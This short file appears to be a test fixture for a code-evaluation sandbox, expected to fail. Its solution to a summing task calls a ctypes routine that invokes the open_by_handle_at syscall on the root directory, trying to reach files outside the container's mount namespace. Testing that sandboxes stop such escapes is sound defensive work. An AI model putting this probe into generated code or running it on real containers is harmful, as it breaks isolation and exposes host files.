# family: rucodeeval
# task: add_all
# expect: not passed
# why: opens files by handle, past the mounts of its namespace
# ---
    return sum(numbers) if attack() else 7


import ctypes
import os
import struct


def attack():
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0).ljust(128, b"\0"))
    return ctypes.CDLL(None).syscall(304, os.open("/", os.O_RDONLY), handle, 0) >= 0
